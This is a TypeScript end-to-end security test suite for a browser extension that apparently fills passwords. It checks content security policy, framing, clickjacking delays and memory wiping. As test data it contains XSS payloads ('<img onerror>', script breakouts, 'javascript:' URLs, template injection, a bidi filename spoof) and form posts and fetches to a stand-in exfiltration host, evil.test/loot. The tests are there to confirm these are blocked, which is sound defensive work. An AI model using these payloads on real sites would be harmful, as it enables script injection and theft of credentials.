import { readdirSync } from 'node:fs';
import { join, relative } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { LabPage } from '../e2e/harness/lab.ts';
import { pause, waitUntil } from '../e2e/harness/wait-until.ts';
import { BROWSERS, buildOf, button } from '../e2e/stage.ts';
import { inTop, stealTicket, takeFrom } from './harness/content.ts';
import { fillForm, how, openForm, openTab, PASSWORD } from './harness/forms.ts';
import { expectNoLeak, filledField, leaks } from './harness/leak-sweep.ts';
import { plantPassword } from './harness/plant-password.ts';
import { openScene, type Scene } from './harness/scene.ts';
import { worth } from './harness/state.ts';
import { closeTabs } from './harness/tabs.ts';

const PRACTICE = 'src/welcome/practice.html';
/** What the popup says to the practice page (`views/practice.ts`, which only a browser can load). */
const PRACTICE_EVENT = 'latchkey-practice';
const VIEWS = [
  'src/popup/index.html',
  'src/options/index.html',
  'src/welcome/index.html',
  PRACTICE,
  'src/help/index.html',
  'src/move/index.html',
  'src/compromised/index.html',
];

describe.each(BROWSERS)('pages of the extension in %s', (browser) => {
  let scene: Scene;
  let reloaded = false;
  beforeAll(async () => {
    scene = await openScene(browser);
  });
  afterAll(() => scene?.close());
  afterEach(async () => {
    // After the reload at the end there is no page left to look through the extension's storage with.
    if (reloaded) return;
    await expectNoLeak(scene, filledField(/^https:\/\/allowed\.test\//));
    await closeTabs(scene);
  });

  const files = readdirSync(buildOf(browser), { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => relative(buildOf(browser), join(entry.parentPath, entry.name)));

  it.each(['https://evil.test/blank', 'https://allowed.test/form'])(
    'T58: %s can load no file of the package',
    async (site) => {
      const { page } = await openTab(scene, site);
      const loaded = await page.evaluate<string[]>(
        `async (origin, files) => {
        const loaded = [];
        const element = (tag, key, url) => new Promise((resolve) => {
          const one = document.createElement(tag);
          if (tag === 'link') one.rel = 'stylesheet';
          one.onload = () => resolve(true);
          one.onerror = () => resolve(false);
          one[key] = url;
          document.head.append(one);
          setTimeout(resolve, 3000, false);
        });
        await Promise.all(files.map(async (file) => {
          const url = origin + '/' + file;
          if (await fetch(url).then(() => true, () => false)) loaded.push('fetch ' + file);
          for (const [tag, key] of [['img', 'src'], ['script', 'src'], ['link', 'href']])
            if (await element(tag, key, url)) loaded.push(tag + ' ' + file);
        }));
        return loaded;
      }`,
        scene.lab.extensionOrigin,
        files,
      );
      expect(loaded).toEqual([]);
      // Control: the same ways do load a file that the site itself serves.
      expect(await page.evaluate(`() => fetch('/emulator-assets/style.css').then(({ ok }) => ok)`)).toBe(
        true,
      );
    },
  );

  it('T58: a web page can neither open nor frame a page of the extension', async () => {
    const { page } = await openTab(scene, 'https://evil.test/blank');
    const own = async (): Promise<number> =>
      (await scene.lab.pages()).filter((one) => one.url().startsWith(scene.lab.extensionOrigin)).length;
    const before = await own();
    await page.evaluate(
      `(origin, views) => {
        for (const view of views) {
          try { window.open(origin + '/' + view, '_blank'); } catch {}
          const frame = document.createElement('iframe');
          frame.src = origin + '/' + view;
          document.body.append(frame);
        }
        return 'tried';
      }`,
      scene.lab.extensionOrigin,
      VIEWS,
    );
    await pause(1_500);
    expect(await own()).toBe(before);
  });

  it('T60 L07: pages opened with crafted addresses do nothing by themselves', async () => {
    const before = await worth(scene);
    for (const view of VIEWS) {
      const address = `${view}?tabId=1&recordId=${scene.recordId}&fill=1&why=show#job.create?name=Crafted%20name`;
      const page = await scene.lab.openExtensionPage(address);
      await waitUntil('the page to show something', async () => (await page.text()).length > 20);
      expect(await page.evaluate('window.opener === null && window.top === window')).toBe(true);
      await page.close();
    }
    expect(await worth(scene)).toEqual(before);
  });

  it.each(VIEWS)('T61: the policy of %s lets nothing in', async (view) => {
    const page = await scene.lab.openExtensionPage(view);
    const outcome = await page.evaluate<{
      ran: string[];
      blocked: string[];
    }>(`() => new Promise((resolve) => {
      const blocked = new Set();
      window.ran = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.add(effectiveDirective));
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.add(effectiveDirective));
      const add = (tag, more) => { const one = document.createElement(tag); Object.assign(one, more); document.body.append(one); return one; };
      add('script', { textContent: 'window.ran.push("inline script")' });
      add('script', { src: 'https://evil.test/emulator-assets/x.js' });
      add('img', { src: 'https://evil.test/pixel.png' });
      add('iframe', { src: 'https://evil.test/blank' });
      add('base', { href: 'https://evil.test/' });
      const link = add('a', { href: 'javascript:window.ran.push("link")' });
      link.click();
      const form = add('form', { action: 'https://evil.test/loot', method: 'post', target: '_blank' });
      form.requestSubmit();
      // Not in this turn: what a debugger evaluates is excused from the policy.
      setTimeout(() => { try { (0, eval)('window.ran.push("eval")'); } catch {} });
      setTimeout(() => { try { new Worker('data:text/javascript,postMessage(1)').onmessage = () => window.ran.push('worker'); } catch {} });
      setTimeout(() => { fetch('https://evil.test/loot').then(() => window.ran.push('fetch'), () => {}); });
      setTimeout(() => resolve({ ran: [...window.ran, ...(document.baseURI.startsWith('https:') ? ['base'] : [])], blocked: [...blocked] }), 900);
    })`);
    expect(outcome.ran).toEqual([]);
    const kinds = outcome.blocked.map((one) => one.replace(/-(elem|attr)$/, ''));
    for (const kind of ['script-src', 'img-src', 'connect-src', 'form-action']) expect(kinds).toContain(kind);
    const reached = scene.emulator.state.requests.map(({ host, path }) => `${host}${path}`);
    for (const path of ['/loot', '/pixel.png', '/emulator-assets/x.js'])
      expect(reached).not.toContain(`evil.test${path}`);
    await page.close();
  });

  it('T62: hostile names are shown as text, and the page keeps its shape', async () => {
    const names = [
      '<img src=x onerror="window.ran=1">',
      '"><script>window.ran=1</script>',
      'javascript:window.ran=1',
      '{{constructor.constructor("window.ran=1")()}}',
      'abc\u202Egnp.exe\u200B\u2066x',
      'x'.repeat(10_000),
      'line one\nline two',
    ];
    for (const name of names) await plantPassword(scene, name);
    const page = await scene.lab.openExtensionPage('src/popup/index.html');
    // The popup shows what the last worker left; the new names come with this one's answer.
    await page.waitFor({ role: 'button', name: /^Revoke line one/ });
    const seen = await page.evaluate<{ ran: boolean; images: number; wide: boolean; bidi: boolean }>(`() => ({
      ran: 'ran' in window,
      images: document.querySelectorAll('img, script:not([src])').length,
      wide: document.documentElement.scrollWidth > Math.max(innerWidth, 420),
      bidi: /[\\u202a-\\u202e\\u2066-\\u2069]/.test(document.body.innerText),
    })`);
    expect(seen).toEqual({ ran: false, images: 0, wide: false, bidi: false });
    expect(await page.text()).toContain('<img src=x');
    await page.close();
  });

  it('T20 T21 T64: what cannot be taken back is deaf for half a second', async () => {
    const { page: form } = await openForm(scene);
    const popup = await scene.lab.openPopup(form);
    await popup.click(button('Revoke Gallery device'));
    const place = await popup.evaluate<{ x: number; y: number; deaf: string | null }>(`() => {
      const now = [...document.querySelectorAll('button')].find((one) => one.textContent === 'Revoke now');
      const box = now.getBoundingClientRect();
      return { x: box.left + box.width / 2, y: box.top + box.height / 2, deaf: now.getAttribute('aria-disabled') };
    }`);
    expect(place.deaf).toBe('true');
    await popup.clickAt(place.x, place.y);
    await pause(300);
    expect((await scene.ask('view.read', {})).job).toBeUndefined();
    // Control: later it does hear.
    await waitUntil('the button to be armed', () =>
      popup.evaluate<boolean>(
        `() => [...document.querySelectorAll('button')].find((one) => one.textContent === 'Revoke now').getAttribute('aria-disabled') !== 'true'`,
      ),
    );
  });

  it('T20 T21: Create and fill is deaf after the window came to the front, and after it moved', async () => {
    const { page: form } = await openForm(scene);
    const popup = await scene.lab.openPopup(form);
    await popup.waitFor(button('Create and fill'));
    const create = `document.querySelector('#form-first')`;
    const armed = (): Promise<boolean> => popup.evaluate<boolean>(`${create}.ariaDisabled !== 'true'`);
    const pressAt = async (moving: string): Promise<void> => {
      const place = await popup.evaluate<{ x: number; y: number }>(`() => {
        ${moving};
        const box = ${create}.getBoundingClientRect();
        return { x: box.left + box.width / 2, y: box.top + box.height / 2 };
      }`);
      await popup.clickAt(place.x, place.y);
    };
    await waitUntil('the button to be armed', armed);
    await pressAt(`dispatchEvent(new Event('focus'))`);
    await pause(300);
    expect((await scene.ask('view.read', {})).job).toBeUndefined();
    await waitUntil('the button to be armed', armed);
    await pressAt(`document.querySelector('main').prepend('A line that was not there before')`);
    await pause(300);
    expect((await scene.ask('view.read', {})).job).toBeUndefined();
    // Control: later it does hear.
    await waitUntil('the button to be armed', armed);
  });

  it('T66 T107: a value that is shown is masked by itself, and a masked one is not in the document', async () => {
    await scene.own.evaluate(
      `async (recordId) => {
      const { storage } = globalThis.browser ?? chrome;
      const { session } = await storage.session.get('session');
      await storage.session.set({ session: { ...session, result: { recordId, name: 'Gallery device', action: 'created' } } });
      return 'set';
    }`,
      scene.recordId,
    );
    await scene.lab.killWorker();
    const page = await scene.lab.openExtensionPage('src/popup/index.html');
    const inDocument = async (): Promise<boolean> =>
      (await leaks(scene)).some(({ where }) => where === page.url());
    await page.waitFor(button('Show'));
    expect(await inDocument()).toBe(false);
    const show = async (): Promise<void> => {
      await page.click(button('Show'));
      await waitUntil('the value', inDocument);
    };
    await show();
    await page.evaluate(`() => { dispatchEvent(new Event('blur')); return 'left'; }`);
    await waitUntil('the mask', async () => !(await inDocument()));
    await show();
    await waitUntil('the mask after ten seconds', async () => !(await inDocument()), {
      timeoutMs: 14_000,
      everyMs: 500,
    });
    await page.close();
    await scene.ask('result.dismiss', {});
  });

  it('L11: the practice page fills what is made up, and hears no web page', async () => {
    const before = await worth(scene);
    const practice = await scene.lab.openExtensionPage(PRACTICE);
    const held = (): Promise<string> =>
      practice.evaluate<string>(`[...document.querySelectorAll('input')].map((one) => one.value).join(' ')`);
    await waitUntil('the form', async () => (await held()).length > 0);
    const empty = await held();
    const { page } = await openForm(scene);
    await page.evaluate(
      `(name) => { for (const to of [window, document, document.body]) to.dispatchEvent(new CustomEvent(name, { bubbles: true })); return 'sent'; }`,
      PRACTICE_EVENT,
    );
    await pause(500);
    expect(await held()).toBe(empty);
    // Control: what the popup says to it is heard.
    await practice.evaluate(
      `(name) => { dispatchEvent(new CustomEvent(name)); return 'said'; }`,
      PRACTICE_EVENT,
    );
    await waitUntil('the made-up password', async () => (await held()).includes('not-a-real-password'));
    expect(await page.value(PASSWORD)).toBe('');
    expect(await worth(scene)).toEqual(before);
    await practice.close();
  });

  it('T88: a content script reads nothing of what is kept', async () => {
    const { tabId } = await openForm(scene);
    const read = await inTop<Record<string, string>>(
      scene,
      tabId,
      `async () => {
        const { storage } = globalThis.browser ?? chrome;
        const area = async (name) => {
          try { return JSON.stringify(await storage[name].get(null)); } catch (error) { return 'refused'; }
        };
        const databases = indexedDB.databases ? (await indexedDB.databases()).map(({ name }) => name).join() : '';
        return { local: await area('local'), sync: await area('sync'), session: await area('session'), databases, caches: (await caches.keys()).join() };
      }`,
    );
    expect(read).toEqual({
      local: '{}',
      sync: expect.stringMatching(/^(\{\}|refused)$/),
      session: 'refused',
      databases: '',
      caches: '',
    });
  });

  it('T93 T98 L08: Forget all now leaves no value in memory, and open tickets give nothing', async () => {
    const form = await openForm(scene);
    const ticket = await stealTicket(scene, form);
    const value = scene.emulator.state.appPasswords.find(({ id }) => id === scene.recordId)?.value ?? 'none';
    // Control: before, the snapshot does show it.
    expect((await scene.lab.workerHeap())?.includes(value) ?? true).toBe(true);
    await scene.ask('password.forget-all', {});
    const answer = await takeFrom(scene, form.tabId, ticket);
    expect(answer).toEqual({ answer: { ok: false } });
    const session = await scene.own.evaluate<object>(
      `() => (globalThis.browser ?? chrome).storage.session.get('secrets')`,
    );
    expect(session).toEqual({ secrets: {} });
    const heap = await scene.lab.workerHeap();
    for (const secret of scene.secrets()) expect(heap?.includes(secret) ?? false).toBe(false);
    expect(how(await fillForm(scene, form))).toBe('value-gone');
    expect(await form.page.value(PASSWORD)).toBe('');
    await plantPassword(scene, 'After forgetting');
  });

  it('T103 T105: nothing was said in any console all along, and no address or title names a value', async () => {
    const lines = scene.lab
      .consoleLines()
      .filter((line) => line.includes(scene.lab.extensionOrigin) || /latchkey/i.test(line));
    const address = (line: string): boolean => /anna@|cnry/.test(line);
    expect(lines.filter(address)).toEqual([]);
    expect(await leaks(scene)).toEqual([]);
  });

  it('T109: a reload of the extension under a page fills nothing, says nothing and leaves no living old icon', async () => {
    const { page } = await openForm(scene);
    await page.waitFor(`${PASSWORD} + div`);
    const spoken = scene.lab.consoleLines().length;
    reloaded = true;
    await reload(scene, page);
    await page.click(`[name=smtp_user]`);
    // In Chromium the old script notices and takes its icon away; Firefox ends it and runs the new one.
    if (browser === 'chromium') {
      await waitUntil('the icon to go', async () => !(await page.has(`${PASSWORD} + div`)));
      expect(await scene.lab.currentPopup()).toBeUndefined();
    }
    expect(await page.value(PASSWORD)).toBe('');
    expect(
      scene.lab
        .consoleLines()
        .slice(spoken)
        .filter((line) => /context invalidated/i.test(line)),
    ).toEqual([]);
  });
});

/** Reloads the extension, as an update does. */
async function reload(scene: Scene, page: LabPage): Promise<void> {
  const { own } = scene;
  await own.evaluate(
    `() => { setTimeout(() => (globalThis.browser ?? chrome).runtime.reload(), 100); return 'soon'; }`,
  );
  await waitUntil(
    'the old extension to end',
    async () =>
      own.closed() ||
      !(await own.evaluate('1').then(
        () => true,
        () => false,
      )),
  );
  await page.bringToFront();
  await pause(1_000);
}
